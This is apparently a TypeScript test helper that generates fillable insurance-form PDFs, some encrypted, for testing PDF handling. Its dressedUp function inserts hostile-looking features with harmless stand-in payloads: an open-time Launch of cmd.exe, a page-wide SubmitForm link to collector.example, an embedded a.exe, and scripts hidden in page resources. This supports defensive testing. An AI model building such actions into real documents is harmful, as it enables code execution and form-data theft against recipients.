import {
  PDFArray,
  PDFDict,
  PDFDocument,
  PDFHexString,
  PDFName,
  type PDFObject,
  type PDFPage,
  PDFRef,
  PDFStream,
  PDFString,
  type SecurityOptions,
} from '@cantoo/pdf-lib'

/** A field of a form that a test invents. */
export interface InventedField {
  name: string
  tooltip?: string
  kind?: 'TEXT' | 'CHECKBOX'
  /** From 1. */
  page?: number
  /** Points from the page's lower left corner: x, y, width, height. */
  box?: [number, number, number, number]
  isMultiline?: boolean
  maxLength?: number
  isComb?: boolean
  fontSize?: number
  /** Further places of it. */
  more?: { page?: number; box: [number, number, number, number] }[]
}

interface Form {
  fields: InventedField[]
  pages?: number
  /** What else the file has: scripts, XFA and so on. */
  dress?(pdf: PDFDocument, pages: PDFPage[]): void | Promise<void>
  encrypt?: SecurityOptions
  objectStreams?: boolean
}

/** A fillable form as agencies have them, made at run time; fields without a box stand in two columns. */
export async function fillableForm({
  fields,
  pages: count = 1,
  dress,
  encrypt,
  objectStreams = false,
}: Form): Promise<Buffer> {
  const pdf = await PDFDocument.create()
  const pages = Array.from({ length: count }, () => pdf.addPage([612, 792]))
  for (const page of pages) page.drawText('Evidence of insurance', { x: 40, y: 760, size: 12 })
  const form = pdf.getForm()
  for (const [index, invented] of fields.entries()) {
    const { name, tooltip, kind = 'TEXT', page = 1, box = columns(index, kind), more = [] } = invented
    const field = kind === 'TEXT' ? form.createTextField(name) : form.createCheckBox(name)
    if ('setText' in field) {
      if (invented.isMultiline) field.enableMultiline()
      if (invented.maxLength) field.setMaxLength(invented.maxLength)
      if (invented.isComb) field.enableCombing()
    }
    for (const place of [{ page, box }, ...more]) {
      const [x, y, width, height] = place.box
      field.addToPage(pages[(place.page ?? 1) - 1] as PDFPage, { x, y, width, height, borderWidth: 0 })
    }
    if ('setText' in field) field.setFontSize(invented.fontSize ?? 9)
    if (tooltip) field.acroField.dict.set(PDFName.of('TU'), PDFHexString.fromText(tooltip))
  }
  await dress?.(pdf, pages)
  if (encrypt) {
    pdf.encrypt(encrypt)
    if (!objectStreams) encryptTexts(pdf)
  }
  return Buffer.from(await pdf.save({ useObjectStreams: objectStreams, updateFieldAppearances: false }))
}

function columns(index: number, kind: 'TEXT' | 'CHECKBOX'): [number, number, number, number] {
  const y = 735 - Math.floor(index / 2) * 15
  return kind === 'TEXT' ? [40 + (index % 2) * 270, y, 255, 13] : [40 + (index % 2) * 270, y, 11, 11]
}

/** The library encrypts streams alone; other programs, and readers, take it that texts are, too. */
function encryptTexts({ context }: PDFDocument) {
  const encrypted = (object: PDFObject, encrypt: (bytes: Uint8Array) => Uint8Array): PDFObject => {
    if (object instanceof PDFHexString || object instanceof PDFString) {
      return PDFHexString.of(Buffer.from(encrypt(object.asBytes())).toString('hex'))
    }
    if (object instanceof PDFArray) {
      for (const [place, item] of object.asArray().entries()) object.set(place, encrypted(item, encrypt))
    }
    const dict = object instanceof PDFStream ? object.dict : object
    if (dict instanceof PDFDict) for (const [key, value] of dict.entries()) dict.set(key, encrypted(value, encrypt))
    return object
  }
  const { Encrypt } = context.trailerInfo
  // The library has some fields under two numbers; each has a key of its own.
  const seen = new Set<PDFObject>()
  for (const [ref, object] of context.enumerateIndirectObjects()) {
    if (seen.has(object) && object instanceof PDFDict) context.assign(ref, object.clone())
    seen.add(object)
  }
  for (const [ref, object] of context.enumerateIndirectObjects()) {
    if (Encrypt instanceof PDFRef && ref === Encrypt) continue
    const encrypt = context.security?.getEncryptFn(ref.objectNumber, ref.generationNumber)
    if (encrypt) context.assign(ref, encrypted(object, encrypt))
  }
}

/** What such forms do in real life, and hide. */
export function dressedUp(pdf: PDFDocument, pages: PDFPage[]): void {
  const { context, catalog } = pdf
  const script = (text: string) => context.register(context.obj({ S: 'JavaScript', JS: PDFHexString.fromText(text) }))
  pdf.addJavaScript('start', 'app.alert("started")')
  catalog.set(PDFName.of('OpenAction'), script('app.alert("opened")'))
  const form = pdf.getForm()
  for (const field of form.getFields()) {
    field.acroField.dict.set(
      PDFName.of('AA'),
      context.obj({ F: script('AFNumber_Format(2)'), C: script('event.value = 1') }),
    )
  }
  const packet = context.register(
    context.flateStream('<xdp:xdp xmlns:xdp="http://ns.adobe.com/xdp/"><script/></xdp:xdp>'),
  )
  form.acroForm.dict.set(PDFName.of('XFA'), context.obj([PDFHexString.fromText('template'), packet]))
  const submit = context.obj({ S: 'SubmitForm', F: PDFHexString.fromText('https://collector.example') })
  const launch = context.obj({ S: 'Launch', F: PDFHexString.fromText('cmd.exe') })
  const [page] = pages
  page?.node.set(PDFName.of('AA'), context.obj({ O: launch }))
  const link = context.obj({ Type: 'Annot', Subtype: 'Link', Rect: [0, 0, 612, 792], A: submit })
  page?.node.Annots()?.push(context.register(link))
  const file = context.register(context.flateStream('MZ', { Type: 'EmbeddedFile' }))
  const described = context.obj({ Type: 'Filespec', F: PDFHexString.fromText('a.exe'), EF: { F: file } })
  catalog.set(PDFName.of('Names'), context.obj({ EmbeddedFiles: { Names: [PDFHexString.fromText('a'), described] } }))
  // Scripts in names of their own, where only an inspection of all names sees them.
  page?.node.Resources()?.set(PDFName.of('Properties'), context.obj({ Hidden: launch, Script: script('app.alert(1)') }))
}
